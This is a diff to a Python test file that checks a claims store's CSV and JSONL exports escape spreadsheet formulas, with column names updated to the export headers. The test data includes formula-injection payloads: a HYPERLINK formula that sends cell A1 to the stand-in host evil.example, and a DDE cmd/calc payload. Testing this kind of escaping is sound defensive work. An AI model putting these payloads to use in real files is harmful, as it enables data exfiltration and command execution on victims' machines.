@@ -55,7 +55,9 @@ def test_a_claim_that_comes_back_never_returns_at_an_older_version(store, tmp_pa
 
 
 # 2 ------------------------------------------------------------------------------------------------
-TEXT_COLUMNS = ["text", "sentence_text", "speaker", "note", "reviewer", "article_title"]
+TEXT_COLUMNS = ["text", "sentence_text", "speaker", "note", "reviewer", "article_title",
+                # the same columns under the headers of the store's exports (claims.exports)
+                "Claim", "Claim span", "Sentence", "Speaker", "Verdict note", "Reviewer", "Article title"]
 
 
 def assert_neutral(frame: pd.DataFrame) -> None:
@@ -83,10 +85,10 @@ def test_csv_cells_never_start_a_formula(store, tmp_path):
     (tmp_path / "download.csv").write_bytes(export_bytes(store.claims_frame(), "csv"))
     outputs["download"] = read(tmp_path / "download.csv")
     for name, df in outputs.items():
-        row = df[df["claim_id"] == claim.claim_id].iloc[0]
-        assert row["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")', name
-        assert (row["text"], row["speaker"], row["reviewer"]) == ("'+cmd|' /C calc'!A0", "'-2+3", "'@ana"), name
-        assert row["speaker_start"].lstrip("-").isdigit(), "numbers stay numbers"
+        row = df[df["Claim ID"] == claim.claim_id].iloc[0]
+        assert row["Verdict note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")', name
+        assert (row["Claim span"], row["Speaker"], row["Reviewer"]) == ("'+cmd|' /C calc'!A0", "'-2+3", "'@ana"), name
+        assert row["Speaker start"].lstrip("-").isdigit(), "numbers stay numbers"
         assert_neutral(df)
     jsonl = pd.read_json(tmp_path / "x.jsonl", lines=True) if export(
         store.claims_frame(), str(tmp_path / "x.jsonl"), "jsonl") else None
